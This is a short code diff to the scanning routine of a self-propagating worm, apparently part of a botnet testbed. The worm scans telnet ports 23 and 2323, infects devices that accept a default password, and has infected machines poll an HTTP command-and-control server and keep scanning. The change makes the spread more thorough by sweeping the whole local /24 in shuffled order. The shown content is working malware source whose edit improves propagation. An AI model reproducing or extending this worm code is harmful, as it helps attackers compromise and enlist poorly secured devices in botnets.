@@ -570,17 +570,20 @@ def infect(target):
 
 
 def worm(prefix):
-    """Scans random addresses of the tenant's /22 on the telnet ports and infects what answers
-    with the default password; infected machines poll the HTTP C2 and scan in turn."""
+    """Scans the telnet ports of random addresses in the tenant's /22 and sweeps its own /24
+    once in random order (its neighbours answer ARP, so they are found there); whatever accepts
+    the default password is infected, polls the HTTP C2 and scans in turn."""
     base = prefix.rsplit(".", 1)[0]
     third = int(prefix.rsplit(".", 1)[1]) & ~3
     rate = float(os.environ.get("BOTNEST_TESTBED_SCAN_RATE", "20"))
+    neighbours = ["%s.%d" % (prefix, n) for n in range(1, 255)]
+    random.shuffle(neighbours)
     infected = set()
     while True:
         targets = ["%s.%d.%d" % (base, third + random.randint(0, 3), random.randint(1, 254))
                    for _ in range(int(rate))]
-        # Devices of the tenant are found by their neighbours too (ARP answers them).
-        targets += ["%s.%d" % (prefix, n) for n in random.sample(range(1, 60), 3)]
+        targets += neighbours[:3]
+        del neighbours[:3]
         for port in (23, 2323):
             for t in scan_round(targets, port):
                 if port == 2323 and t not in infected:
